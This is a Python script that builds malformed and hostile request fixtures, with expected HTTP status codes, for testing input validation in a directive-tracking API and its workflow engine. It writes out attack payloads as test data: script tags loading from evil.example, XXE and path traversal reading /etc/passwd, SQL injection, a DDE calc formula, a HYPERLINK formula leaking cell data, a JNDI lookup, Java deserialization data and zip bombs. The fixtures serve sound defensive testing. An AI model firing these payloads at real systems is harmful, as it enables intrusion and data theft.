import json, os
os.makedirs('files', exist_ok=True)
def base(**over):
    task = {"key":"T01","title":"Triển khai thí điểm","domain":"HEALTH","deadline":"2024-12-31","expectedResult":"Báo cáo"}
    body = {"reference":"{ref}","issuedOn":"2024-03-01","issuer":"P06WG","title":"Kết luận của Tổ công tác","tasks":[task]}
    for k,v in over.items():
        if k.startswith('task_'):
            task[k[5:]] = v
        else:
            body[k] = v
    return body
rows = []
def add(name, content, expected, note, user='leader', method='POST', path='/api/directives', ctype='application/json', stores=0, binary=False):
    fname = name
    mode = 'wb' if isinstance(content, bytes) else 'w'
    if name is not None:
        with open('files/' + fname, mode, **({} if mode=='wb' else {'encoding':'utf-8'})) as f:
            f.write(content)
        ref = fname
    else:
        ref = content if content else ''
    rows.append((str(len(rows)+1).zfill(3), user, method, path, ctype, ref, str(expected), str(stores), note))
def content_is_gen(c):
    return isinstance(c, str) and c.startswith('gen:')
J = lambda o: json.dumps(o, ensure_ascii=False, indent=1)
# --- broken JSON
add('truncated.json', J(base())[:60], 400, 'JSON cut off in the middle')
add('trailing-comma.json', J(base()).rstrip()[:-1] + ',}', 400, 'trailing comma')
add('single-quotes.json', "{'reference': '{ref}', 'issuer': 'P06WG'}", 400, 'single-quoted JSON')
add('unquoted-keys.json', '{reference: "{ref}", issuer: "P06WG"}', 400, 'unquoted keys')
add('not-json.json', 'Kết luận của Tổ công tác, không phải JSON', 400, 'text that is not JSON')
add('empty.json', '', 400, 'empty body')
add('null.json', 'null', 400, 'the JSON literal null')
add('top-array.json', '[]', 400, 'an array instead of an object')
add('top-string.json', '"directive"', 400, 'a string instead of an object')
add('comment.json', '/* hi */ ' + J(base()), 400, 'JSON with a comment')
add(None, 'gen:nest-array:10000', 400, '10,000 nested arrays in tasks (Jackson maxNestingDepth 1000)')
add(None, 'gen:nest-object:2000', 400, '2,000 nested objects in title')
add('duplicate-key.json', J(base()).replace('"title": "Kết luận của Tổ công tác",', '"title": "Kết luận", "title": "Khác",'), 400, 'duplicate key title')
add('duplicate-key-task.json', J(base()).replace('"key": "T01",', '"key": "T01", "key": "T02",'), 400, 'duplicate key in a task')
add('nan.json', J(base()).replace('"issuedOn": "2024-03-01"', '"issuedOn": NaN'), 400, 'NaN literal')
# --- encoding and characters
t = J(base(title='Kết luận XXX')).encode('utf-8')
add('invalid-utf8.bin', t.replace(b'XXX', b'\xc3\x28\xa0\xa1'), 400, 'invalid UTF-8 bytes in title')
add('overlong-utf8.bin', t.replace(b'XXX', b'\xc0\xaf'), 400, 'overlong UTF-8 encoding of /')
add('latin1.bin', J(base(title='Kết luận')).encode('utf-8').replace('ế'.encode('utf-8'), b'\xe9'), 400, 'Latin-1 byte in UTF-8 JSON')
add('nul.json', J(base(title='Kết luận\u0000ẩn')), 400, 'NUL character in title')
add('bell.json', J(base(task_title='Việc\u0007')), 400, 'control character BEL in a task title')
add('c1-control.json', J(base(task_description='Mô tả\u0085')), 400, 'C1 control character (NEL) in a description')
add('crlf-reference.json', J(base(reference='{ref}\r\nBcc: all@example.com')), 400, 'header injection: line break in the reference')
add('bidi-override.json', J(base(title='Kết luận \u202Etxt.exe')), 400, 'right-to-left override in title')
add('lone-surrogate.json', J(base()).replace('Kết luận của Tổ công tác', 'Kết luận \\ud800'), 400, 'unpaired surrogate escape')
add('noncharacter.json', J(base(title='Kết luận \uffff')), 400, 'Unicode non-character U+FFFF')
# --- markup and injection
add('script-title.json', J(base(title='<script>alert(document.cookie)</script>')), 400, 'script tag in title')
add('script-task-title.json', J(base(task_title='Việc <script src=//evil.example/x.js></script>')), 400, 'script tag in a task title')
add('img-onerror.json', J(base(task_description='<img src=x onerror=alert(1)>')), 400, 'img onerror in a description')
add('svg-onload.json', J(base(task_expectedResult='<svg/onload=alert(1)>')), 400, 'svg onload in expected result')
add('html-comment.json', J(base(title='Kết luận <!-- hidden -->')), 400, 'HTML comment in title')
add('closing-tag.json', J(base(title='Kết luận </textarea><b>')), 400, 'closing tag breaking out of a textarea')
add('xml-pi.json', J(base(title='<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')), 400, 'XML processing instruction / XXE text')
add('sql-meta.json', J(base(title="Kết luận'); DROP TABLE dt_directive; --")), 201, 'SQL metacharacters: stored verbatim as text (bound parameters), not refused', stores=1)
add('sql-meta-domain.json', J(base(task_domain="HEALTH' OR '1'='1")), 400, 'SQL metacharacters in a code: unknown domain')
add('formula.json', J(base(title='=HYPERLINK("http://evil.example/?d="&A1,"Bấm")')), 201, 'CSV formula: stored as text, neutralised in exports (CsvText)', stores=1)
add('formula-task.json', J(base(task_title='@SUM(1+1)*cmd|\' /C calc\'!A0')), 201, 'DDE formula in a task title: text, neutralised in exports', stores=1)
add('placeholder-title.json', J(base(title='{taskTitle} {reference} ${jndi:ldap://evil.example/a}', task_title='{taskTitle}{link}')), 201, 'template placeholders in titles stay text in e-mail (no recursive expansion)', stores=1)
add('lt-is-fine.json', J(base(task_title='Giảm thời gian xử lý < 5 ngày, tỷ lệ >= 90%')), 201, 'a lone < is ordinary text', stores=1)
# --- wrong types
add('tasks-object.json', J(base(tasks={"key":"T01"})), 400, 'tasks is an object, not a list')
add('keytask-string.json', J(base(task_keyTask='yes')), 400, 'keyTask is a string')
add('deadline-number.json', J(base(task_deadline=20241231)), 400, 'deadline is a number')
add('issuedon-array.json', J(base(issuedOn=[2024,3,1])), 400, 'issuedOn is an array')
add('title-number.json', J(base(title=42)), 400, 'title is a number')
add('coordinating-string.json', J(base(task_coordinatingUnits='MPS')), 400, 'coordinatingUnits is a string')
add('unknown-field.json', J(base(priority='HIGH')), 400, 'unknown field priority')
add('unknown-task-field.json', J(base(task_assignee='moh')), 400, 'unknown field assignee in a task')
add('task-null.json', J(base(tasks=[None])), 400, 'a null task')
# --- unknown codes
add('unknown-domain.json', J(base(task_domain='MAGIC')), 400, 'unknown domain')
add('unknown-issuer.json', J(base(issuer='NOBODY')), 400, 'unknown issuer')
add('unknown-province.json', J(base(task_province='ATLANTIS')), 400, 'unknown province')
add('unknown-lead.json', J(base(task_leadUnit='ACME')), 400, 'unknown lead unit')
add('unknown-coordinating.json', J(base(task_coordinatingUnits=['XYZ'])), 400, 'unknown coordinating unit')
add('lowercase-domain.json', J(base(task_domain='health')), 400, 'domain code in lower case')
# --- impossible dates
add('feb-30.json', J(base(task_deadline='2024-02-30')), 400, '30 February')
add('feb-29-2023.json', J(base(task_deadline='2023-02-29')), 400, '29 February of a common year')
add('month-13.json', J(base(task_deadline='2024-13-01')), 400, 'month 13')
add('dmy-date.json', J(base(issuedOn='01/03/2024')), 400, 'date written dd/MM/yyyy')
add('future-issue.json', J(base(issuedOn='2099-01-01')), 400, 'issued in the future')
add('deadline-before-issue.json', J(base(task_deadline='2024-01-01')), 400, 'deadline before the notice')
add('year-10000.json', J(base(task_deadline='+10000-01-01')), 400, 'year 10000')
add('hour-25.json', J(base(task_deadline='2024-03-01T25:00')), 400, 'a time of day 25:00')
# --- sizes
add(None, 'gen:pad-title:3000000', 413, 'a 3 MB body (limit 2 MB)')
add(None, 'gen:tasks:10000', 400, '10,000 tasks (at most 500)')
add('title-5000.json', J(base(title='A'*5000)), 400, 'a 5,000-character title (column is 2,000)')
add('reference-500.json', J(base(reference='R'*500)), 400, 'a 500-character reference')
add('key-200.json', J(base(task_key='K'*200)), 400, 'a 200-character task key (column is 64)')
add('description-20000.json', J(base(task_description='D'*20000)), 400, 'a 20,000-character description (column is 10,000)')
add('expected-5000.json', J(base(task_expectedResult='E'*5000)), 400, 'a 5,000-character expected result (column is 4,000)')
add('no-tasks.json', J(base(tasks=[])), 400, 'no tasks')
add('no-title.json', J({k:v for k,v in base().items() if k!='title'}), 400, 'no title')
add('blank-reference.json', J(base(reference='   ')), 400, 'blank reference')
# --- content types and methods
add('json-as-text.txt', J(base()), 415, 'JSON sent as text/plain', ctype='text/plain')
add('json-as-xml.xml', '<directive><title>x</title></directive>', 415, 'XML body', ctype='application/xml')
add('multipart.txt', '--b\r\nContent-Disposition: form-data; name="f"\r\n\r\nx\r\n--b--\r\n', 415, 'multipart to a JSON endpoint', ctype='multipart/form-data; boundary=b')
add(None, '', 405, 'PUT on the collection', method='PUT')
# --- query strings and paths
add(None, '', 400, 'limit is not a number', method='GET', path='/api/directives?limit=abc')
add(None, '', 400, 'limit too large', method='GET', path='/api/directives?limit=100000')
add(None, '', 400, 'status with markup', method='GET', path='/api/directives?status=%3Cscript%3E')
add(None, '', 404, "SQL injection in an id", method='GET', path="/api/directives/'%20OR%20'1'='1")
add(None, '', 404, 'path traversal in an id', method='GET', path='/api/directives/..%252F..%252Fetc%252Fpasswd')
# --- withdrawal
add('withdraw-empty.json', '{"reason": ""}', 400, 'withdrawal without a reason', path='/api/directives/{directive}/tasks/T01/withdrawal')
add('withdraw-long.json', json.dumps({"reason": "L"*3000}), 400, 'a 3,000-character reason', path='/api/directives/{directive}/tasks/T01/withdrawal')
add('withdraw-script.json', json.dumps({"reason": "<script>alert(1)</script>"}), 400, 'script in a reason', path='/api/directives/{directive}/tasks/T01/withdrawal')
add('withdraw-malformed.json', '{"reason": ', 400, 'malformed JSON', path='/api/directives/{directive}/withdrawal')
add('withdraw-number.json', '{"reason": 7}', 400, 'reason is a number', path='/api/directives/{directive}/withdrawal')
# --- engine-rest
ok_report = '{"variables":{"reportResult":{"value":"Xong"},"completionDate":{"value":"2024-03-01"}}}'
add('report-other-unit.json', ok_report, 403, "a form submitted for someone else's task", user='moj', path='/engine-rest/task/{mohTask}/complete')
add('report-auditor.json', ok_report, 403, 'an auditor submitting a form', user='auditor', path='/engine-rest/task/{mohTask}/complete')
add(None, 'gen:nest-array-variables:10000', 400, '10,000 nested arrays in a task completion', user='moh', path='/engine-rest/task/{mohTask}/complete')
add('report-malformed.json', '{"variables": {"reportResult": ', 400, 'malformed completion JSON', user='moh', path='/engine-rest/task/{mohTask}/complete')
add('report-bad-date-type.json', '{"variables":{"completionDate":{"value":"not a date","type":"Date"}}}', 400, 'a Date variable that is not a date', user='moh', path='/engine-rest/task/{mohTask}/complete')
add('report-unknown-type.json', '{"variables":{"reportResult":{"value":"x","type":"Exploit"}}}', 400, 'an unknown variable type', user='moh', path='/engine-rest/task/{mohTask}/complete')
add('report-java-object.json', '{"variables":{"reportResult":{"value":"rO0ABXQAA2FiYw==","type":"Object","valueInfo":{"objectTypeName":"java.lang.String","serializationDataFormat":"application/x-java-serialized-object"}}}}', 400, 'a Java-serialized object (deserialization attack)', user='moh', path='/engine-rest/task/{mohTask}/complete')
add('report-reroute.json', '{"variables":{"reportResult":{"value":"x"},"completionDate":{"value":"2024-03-01"},"leadUnit":{"value":"MOJ"}}}', 403, 'a completion that rewrites the lead unit', user='moh', path='/engine-rest/task/{mohTask}/complete')
add('report-future.json', '{"variables":{"reportResult":{"value":"x"},"completionDate":{"value":"2099-01-01"}}}', 400, 'the server-side check refuses a future completion date', user='moh', path='/engine-rest/task/{mohTask}/complete')
add(None, 'gen:pad-variables:3000000', 413, 'a 3 MB completion', user='moh', path='/engine-rest/task/{mohTask}/complete')
add(None, '', 400, 'sort injection in a task query', user='moh', method='GET', path='/engine-rest/task?sortBy=name;drop&sortOrder=asc')
add(None, '', 400, 'a task query with an invalid date', user='moh', method='GET', path='/engine-rest/task?dueBefore=yesterday')
# --- holiday calendar and spreadsheets
add('holidays-invalid-utf8.bin', b'date,name_vi,name_en,kind\n2031-01-01,T\xc3\x28t,New Year,HOLIDAY\n', 400, 'holiday file that is not UTF-8', user='admin', method='PUT', path='/api/admin/holidays/2031', ctype='text/csv')
add('holidays-garbage.csv', 'this is,not,a,calendar\n=cmd|calc,1,2,3\n', 400, 'holiday file with garbage lines', user='admin', method='PUT', path='/api/admin/holidays/2031', ctype='text/csv')
add(None, '', 400, 'holiday year out of range', user='admin', method='PUT', path='/api/admin/holidays/99999', ctype='text/csv')
add(None, 'gen:xlsx-bomb', '4xx', 'XLSX zip bomb (a 200 MB sheet in a 200 KB zip): the import endpoint is not in this branch yet; when it lands, expect 413 or 400 and set the path', method='POST', path='/api/directives/import', ctype='application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
add(None, 'gen:xlsx-bomb', 415, 'an XLSX zip bomb posted as a directive', method='POST', path='/api/directives', ctype='application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
with open('index.psv', 'w', encoding='utf-8') as f:
    f.write('id|user|method|path|contentType|file|expected|stores|note\n')
    for r in rows:
        f.write('|'.join(r) + '\n')
print(len(rows))
